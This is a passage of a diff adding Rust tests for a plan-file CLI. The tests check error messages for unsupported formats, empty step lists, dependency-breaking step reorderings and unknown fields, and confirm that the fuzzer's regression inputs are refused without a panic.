+    assert_eq!(message, format!("{file}: plan file format 2 is not supported (this plan writes format 1)"));
+    let steps = text.find("\nsteps:\n").unwrap();
+    let (message, file) = plan_refused(&format!("{}\nsteps: []{}", &text[..steps], &text[rollbacks..]));
+    assert_eq!(message, format!("{file}: the plan has no steps"));
+}
+
+#[test]
+fn a_reordering_that_breaks_the_dag_names_both_steps_and_why() {
+    // tests/cli.rs moves 4.1 first; here the join moves before its join command exists.
+    let text = common::move_step(&exported(), "2.5", Some("2.1"));
+    let (message, file) = plan_refused(&text);
+    assert_eq!(
+        message,
+        format!(
+            "{file}: step 2.5 (Join k8s-master-2 as a control-plane node) must come after step 2.4 (Generate the join command): \
+             the source plan's order within the phase"
+        )
+    );
+}
+
+#[test]
+fn a_plan_file_with_an_unknown_field_is_located() {
+    let text = edit(&exported(), "plan_format: 1\n", "plan_format: 1\napproved_by: me\n");
+    let (message, file) = plan_refused(&text);
+    let expected = format!(
+        "{file}:{}: unknown field `approved_by`, expected one of `plan_format`, `scenario`,",
+        at(&text, "approved_by", 0, "approved_by")
+    );
+    assert!(message.starts_with(&expected), "{message}");
+}
+
+// --- Inputs the fuzzer found (fuzz/, scripts/fuzz.sh) ----------------------------------------------
+
+/// Every file in tests/fuzz_regressions/: `scenario-*` through `--scenario`, `plan_file-*`
+/// through `--plan`. Each once crashed or hung a fuzz target; all must now be refused cleanly.
+#[test]
+fn fuzz_regressions_are_refused_without_a_panic() {
+    let dir = root().join("tests/fuzz_regressions");
+    let mut ran = 0;
+    for entry in std::fs::read_dir(&dir).expect("tests/fuzz_regressions exists") {
+        let path = entry.unwrap().path();
+        let name = path.file_name().unwrap().to_string_lossy().to_string();
+        let flag = if name.starts_with("scenario-") {
+            "--scenario"
+        } else if name.starts_with("plan_file-") {
+            "--plan"
+        } else {
+            continue;
+        };
+        let out = plan(&[flag, path.to_str().unwrap(), "show"]);
+        assert_eq!(out.code, 2, "{name}: {}", out.stderr);
+        assert!(out.stderr.starts_with("plan: error: ") && !out.stderr.contains("panicked"), "{name}: {}", out.stderr);
+        ran += 1;
+    }
+    assert!(ran > 0, "no regression inputs in {}", dir.display());
+    assert!(Path::new(&dir).join("README.md").exists());
+}
